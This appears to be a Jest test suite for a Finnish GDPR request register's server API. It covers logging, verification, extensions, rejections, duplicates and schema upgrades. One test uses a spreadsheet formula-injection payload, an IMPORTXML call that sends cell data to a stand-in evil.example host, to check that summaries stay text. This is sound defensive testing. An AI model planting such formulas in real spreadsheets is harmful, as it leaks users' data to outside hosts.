/**
 * The request API through the built bundle in the emulator (README "Server functions"): manual
 * logging with a request key, verification, the one extension, rejection with the right to
 * complain, duplicates, and the Requests tab as the store writes it (the `rights` column, every
 * cell literal). Every status change is in the audit chain with the request id.
 */
import { verifyChain } from '../../src/core/audit';
import { sha256Hex } from '../../src/core/sha256';
import { OWNER, STAFF } from '../../src/emulator/accounts';
import type { Emulator } from '../../src/emulator/app';
import { auditEntries, call, chainToHead, demo, failure, formulas } from '../support/register';

type Req = { id: string; status: string; rights: string[]; dueDate: string; extendedDueDate: string; verification: string; outcome: { rejectionReason: string; duplicateOf: string } };
type Change = { request: Req; notice?: { subject: string; body: string; draftId: string | null; inThread: boolean } };

const KEY = 'letter-key-0000000001';
const letter = (extra: Record<string, unknown> = {}) => ({
  channel: 'letter', type: 'erasure', rights: ['objection'], requesterEmail: 'Kirje.Lahettaja@example.fi', summary: 'Poistakaa tietoni ja lopettakaa markkinointi', requestKey: KEY, ...extra,
});

const rows = (em: Emulator) => em.world.spreadsheet.snapshot('Pyynnöt')!.values as string[][];

describe('logRequest', () => {
  test('a letter becomes one case with every right asked, awaiting verification, due in one month', () => {
    const em = demo(20);
    const { request } = call<Change>(em, 'logRequest', letter({ receivedAt: '2026-11-02' }));
    expect(request).toMatchObject({ id: 'R-0001', status: 'awaiting-verification', rights: ['erasure', 'objection'], dueDate: '2026-12-02', verification: 'none' });
    const [header, row] = rows(em);
    // Words in the tab (issue 8), codes in the API.
    expect(row[header.indexOf('Oikeudet')]).toBe('Poisto (17 art.), Markkinointikielto (21 art.)');
    expect(row[header.indexOf('Pyytäjän sähköposti')]).toBe('kirje.lahettaja@example.fi');
    expect(auditEntries(em).filter((e) => e.requestId === 'R-0001').map((e) => e.action)).toEqual(['request-logged']);
  });

  test('a retry with the same request key returns the first case and logs nothing more', () => {
    const em = demo(20);
    const first = call<Change>(em, 'logRequest', letter());
    const again = call<Change>(em, 'logRequest', letter());
    expect(again.request.id).toBe(first.request.id);
    expect(rows(em).slice(1).filter((r) => r[0] !== '')).toHaveLength(1);
    expect(auditEntries(em).filter((e) => e.action === 'request-logged')).toHaveLength(1);
  });

  test('a fault at any call of a logging, then a retry with the same key: exactly one case, a valid chain', () => {
    const calls = demo(20).callFromClient('logRequest', [letter()], STAFF).calls;
    for (let n = 1; n <= calls; n++) {
      const em = demo(20);
      em.world.injectFault({ atCall: n });
      expect(em.callFromClient('logRequest', [letter()], STAFF).ok).toBe(false);
      const retry = call<Change>(em, 'logRequest', letter());
      expect(retry.request.id).toBe('R-0001');
      expect(rows(em).slice(1).filter((r) => r[0] !== '')).toHaveLength(1);
      expect(verifyChain(chainToHead(em), sha256Hex)).toEqual({ ok: true });
    }
  });

  test('an in-person request with a note of the ID check is verified at once', () => {
    const em = demo(20);
    const { request } = call<Change>(em, 'logRequest', letter({ channel: 'in-person', type: 'access', rights: [], customerNumber: '100003', verificationNote: 'Ajokortti tarkistettu toimistolla' }));
    expect(request).toMatchObject({ status: 'in-progress', verification: 'manual' });
  });

  test('a day of receipt in the future, or a customer number nobody has, is refused and nothing is written', () => {
    const em = demo(20);
    const before = JSON.stringify(rows(em));
    expect(failure(em, 'logRequest', letter({ receivedAt: '2099-01-01' }))).toMatch(/tulevaisuudessa/);
    expect(failure(em, 'logRequest', letter({ customerNumber: '999999' }))).toMatch(/999999/);
    expect(JSON.stringify(rows(em))).toBe(before);
  });

  test('a requester address the register would not take is refused with what is wrong in it, and nothing is written; an ä-domain is taken as typed', () => {
    const em = demo(20);
    const before = JSON.stringify(rows(em));
    expect(failure(em, 'logRequest', letter({ requesterEmail: 'jari.virtanen@' }))).toMatch(/verkkotunnus|@/);
    expect(failure(em, 'logRequest', letter({ requesterEmail: 'jari virtanen@example.fi' }))).toMatch(/välilyönnit/);
    expect(JSON.stringify(rows(em))).toBe(before);
    const { request } = call<Change & { request: { requesterEmail: string } }>(em, 'logRequest', letter({ requesterEmail: 'Anna@Hyvä.fi' }));
    expect(request.requesterEmail).toBe('anna@hyvä.fi');
  });

  test('a summary that looks like a formula stays text in the Requests tab', () => {
    const em = demo(20);
    call(em, 'logRequest', letter({ summary: '=IMPORTXML("http://evil.example/?"&A1;"//a")' }));
    expect(formulas(em, 'Pyynnöt')).toEqual([]);
    expect(call<{ requests: { summary: string }[] }>(em, 'listRequests', {}).requests[0].summary).toBe('=IMPORTXML("http://evil.example/?"&A1;"//a")');
  });
});

describe('changes go through the transition table and the audit chain', () => {
  test('verify needs a note; then the case is in progress, logged with the request id', () => {
    const em = demo(20);
    const { request } = call<Change>(em, 'logRequest', letter());
    expect(failure(em, 'verifyRequest', { id: request.id, note: ' ' })).toMatch(/miten henkilöllisyys tarkistettiin/);
    expect(call<Change>(em, 'verifyRequest', { id: request.id, note: 'Soitettu rekisterissä olevaan numeroon' }).request.status).toBe('in-progress');
    expect(auditEntries(em).filter((e) => e.requestId === request.id).map((e) => [e.action, e.fields])).toEqual([
      ['request-logged', 'type,rights,channel'], ['request-updated', 'status,verification'],
    ]);
  });

  test('the deadline is extended once, inside the first month, with the notice drafted in the request language', () => {
    const em = demo(20);
    const { request } = call<Change>(em, 'logRequest', letter({ language: 'sv', receivedAt: '2026-11-02' }));
    const extended = call<Change>(em, 'extendRequest', { id: request.id, reason: 'Många uppgifter' });
    expect(extended.request.extendedDueDate).toBe('2027-02-02');
    expect(extended.notice).toMatchObject({ subject: expect.stringContaining('förlängs'), inThread: false });
    expect(extended.notice!.body).toContain('2.2.2027');
    const draft = em.world.mail.toJSON() as unknown as { drafts: [string, { to: string; body: string }][] };
    expect(JSON.stringify(draft)).toContain('kirje.lahettaja@example.fi');
    expect(failure(em, 'extendRequest', { id: request.id, reason: 'igen' })).toMatch(/redan förlängts|jo jatkettu/);
  });

  test('an extension after the first month is refused', () => {
    const em = demo(20);
    const { request } = call<Change>(em, 'logRequest', letter({ receivedAt: '2026-10-01' }));
    expect(failure(em, 'extendRequest', { id: request.id, reason: 'Myöhässä' })).toMatch(/ensimmäisen kuukauden aikana/);
    expect(rows(em)[1][rows(em)[0].indexOf('Jatkettu määräpäivä')]).toBe('');
  });

  test('a rejection needs a reason, closes the case, and its answer names the right to complain to Tietosuojavaltuutettu', () => {
    const em = demo(20);
    const { request } = call<Change>(em, 'logRequest', letter());
    expect(failure(em, 'rejectRequest', { id: request.id, reason: '' })).toMatch(/Kirjoita syy/);
    const rejected = call<Change>(em, 'rejectRequest', { id: request.id, reason: 'Henkilöllisyyttä ei voitu varmistaa' });
    expect(rejected.request).toMatchObject({ status: 'rejected', outcome: { rejectionReason: 'Henkilöllisyyttä ei voitu varmistaa' } });
    expect(rejected.notice!.body).toMatch(/Tietosuojavaltuutettu/);
    expect(rejected.notice!.body).toContain('Henkilöllisyyttä ei voitu varmistaa');
    expect(auditEntries(em).filter((e) => e.requestId === request.id).map((e) => e.action)).toEqual(['request-logged', 'request-closed']);
    expect(failure(em, 'verifyRequest', { id: request.id, note: 'myöhässä' })).toMatch(/tila ei salli/);
  });

  test('a duplicate must name another existing case', () => {
    const em = demo(20);
    const a = call<Change>(em, 'logRequest', letter()).request;
    const b = call<Change>(em, 'logRequest', letter({ requestKey: 'letter-key-0000000002' })).request;
    expect(failure(em, 'markDuplicate', { id: b.id, of: 'R-0099' })).toMatch(/R-0099/);
    expect(failure(em, 'markDuplicate', { id: b.id, of: b.id })).toMatch(/itsensä/);
    expect(call<Change>(em, 'markDuplicate', { id: b.id, of: a.id }).request).toMatchObject({ status: 'duplicate', outcome: { duplicateOf: a.id } });
  });

  test('an unknown id is refused with a message that says what to do', () => {
    const em = demo(20);
    expect(failure(em, 'getRequest', { id: 'R-0042' })).toMatch(/Pyyntöä R-0042 ei löydy/);
    expect(failure(em, 'getRequest', { id: '=1+1' })).toMatch(/Päivitä/);
  });
});

describe('listRequests and getRequest', () => {
  test('filters by status and person, with dates as YYYY-MM-DD and the countdown from the server day', () => {
    const em = demo(20);
    call(em, 'logRequest', letter({ customerNumber: '100002', receivedAt: '2026-11-02' }));
    call(em, 'logRequest', letter({ requestKey: 'letter-key-0000000002', verificationNote: 'Tarkistettu' }));
    const open = call<{ requests: { id: string; receivedAt: string; countdown: { daysLeft: number; colour: string } }[] }>(em, 'listRequests', { status: 'open' });
    expect(open.requests.map((r) => r.id)).toEqual(['R-0002', 'R-0001']);
    // Received 2.11., due 2.12., and the server's today is 25.11.: seven days left.
    expect(open.requests[1]).toMatchObject({ receivedAt: '2026-11-02', countdown: { daysLeft: 7, colour: 'amber' } });
    expect(call<{ requests: unknown[] }>(em, 'listRequests', { customerNumber: '100002' }).requests).toHaveLength(1);
    expect(call<{ requests: unknown[] }>(em, 'listRequests', { status: 'in-progress' }).requests).toHaveLength(1);
    expect(failure(em, 'listRequests', { status: 'whatever' })).toMatch(/Päivitä/);
  });

  test('the letter of an intake case is read from Gmail for display, never from the sheet', () => {
    const em = demo(20);
    const { messageId, threadId } = em.deliverMail({ from: 'lukija@example.fi', subject: 'Tietopyyntö', body: 'Haluan tarkastaa tietoni.' });
    // A case as intake writes it, typed into the store by a script (the trigger has its own suite).
    const report = em.runScript(`
      var sheet = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Pyynnöt');
      var header = sheet.getRange('1:1').getValues()[0];
      var row = header.map(function (h) { return ''; });
      var put = function (title, v) { row[header.indexOf(title)] = v; };
      put('Tunnus', 'R-0001'); put('Vastaanotettu', '2026-11-20T10:00:00.000Z'); put('Kanava', 'email'); put('Tyyppi', 'access');
      put('Oikeudet', 'access'); put('Kieli', 'fi'); put('Tila', 'awaiting-verification'); put('Määräpäivä', '2026-12-21');
      put('Tunnistus', 'none'); put('Gmail-viesti', '${messageId}'); put('Gmail-ketju', '${threadId}'); put('Yhteenveto', 'Tietopyyntö');
      sheet.getRange(2, 1, 1, row.length).setValues([row]);`, OWNER);
    expect(report.ok).toBe(true);
    const got = call<{ letter: { body: string; from: string }; threadUrl: string; letterUnavailable: string }>(em, 'getRequest', { id: 'R-0001' }, OWNER);
    expect(got.letter).toMatchObject({ from: 'lukija@example.fi', body: 'Haluan tarkastaa tietoni.' });
    expect(got.threadUrl).toContain(threadId);
    expect(JSON.stringify(rows(em))).not.toContain('Haluan tarkastaa');
  });
});

test('set-up adds the rights column to a Requests tab made before it, keeping the rows', () => {
  const em = demo(20);
  call(em, 'logRequest', letter());
  // The tab as an older release made it: no rights column, no reply ids.
  const drop = em.runScript(`
    var sheet = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Pyynnöt');
    var header = sheet.getRange('1:1').getValues()[0];
    sheet.deleteColumn(header.indexOf('Vastausviestit') + 1);
    sheet.deleteColumn(header.indexOf('Oikeudet') + 1);
    PropertiesService.getDocumentProperties().setProperty('rekisteri.schemaVersion', 'old');`, OWNER);
  expect(drop.ok).toBe(true);
  expect(failure(em, 'listRequests', {}, OWNER)).toMatch(/Käyttöönotto/);
  const setUp = call<{ addedColumns: string[] }>(em, 'setUp', {}, OWNER);
  expect(setUp.addedColumns).toEqual(['Pyynnöt: Oikeudet', 'Pyynnöt: Vastausviestit']);
  const listed = call<{ requests: { id: string; rights: string[] }[] }>(em, 'listRequests', {});
  // The old row had no rights cell: its primary type stands for the rights asked.
  expect(listed.requests).toEqual([expect.objectContaining({ id: 'R-0001', rights: ['erasure'] })]);
});
